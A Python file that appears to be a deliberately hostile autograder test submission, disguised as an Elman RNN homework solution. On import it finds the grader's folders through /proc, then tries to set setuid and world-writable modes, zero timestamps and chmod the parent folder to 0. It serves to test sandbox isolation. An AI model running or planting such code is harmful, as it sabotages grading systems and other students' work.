"""Tries to change what it does not own: the modes (setuid bits included)
and times of the folders the grader's command line names (the batch
folder, the --out folder) and of everything in them, and of the folder
above its own working folder, then chmod 0 on that folder (which used to
fail every later submission of the batch), and says if anything succeeded.
Expected in the sandbox: the grader is not in view and the folder above is
read-only: flagged (os.chmod), 1 of 10 (the shapes), and every canary
keeps its mode and time."""

import os
import pathlib

import numpy as np


def _grader_paths():
    """The submissions and the --out folder on the grader's command line."""
    for pid in os.listdir("/proc"):
        try:
            arguments = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if b"grade" not in arguments:  # the grader: course grade ...
            continue
        for flag, value in zip(arguments, arguments[1:]):
            if flag == b"--out":
                yield pathlib.Path(os.fsdecode(value))
        for argument in arguments:
            if argument.endswith((b".py", b".ipynb")):
                yield pathlib.Path(os.fsdecode(argument)).parent


def _targets():
    targets = {pathlib.Path.cwd().parent}
    for folder in _grader_paths():
        if folder.is_dir():
            targets |= {folder, *folder.iterdir()}
    return targets


def _change(path):
    if path == pathlib.Path.cwd() or pathlib.Path.cwd() in path.parents:
        return 0  # its own working folder is its to change
    changed = 0
    for change in (
        lambda: os.chmod(path, 0o4777 if path.is_file() else 0o777),
        lambda: os.utime(path, (0, 0)),
    ):
        try:
            change()
            changed += 1
        except OSError:
            pass
    return changed


class Vandal:
    changed = sum(_change(path) for path in _targets())
    try:
        os.chmod(pathlib.Path.cwd().parent, 0)
        changed += 1
    except OSError:
        pass
    if changed:
        raise RuntimeError(f"changed {changed} modes or times outside its folder")

    @staticmethod
    def zeros(x, W, V):
        return np.zeros((*x.shape[:2], W.shape[0])), np.zeros(
            (*x.shape[:2], V.shape[1])
        )


def elman_forward(x, h0, U, W, b, V, c):
    return Vandal.zeros(x, W, V)  # so the class, and its body, is kept


elman_loss = elman_bptt = elman_forward
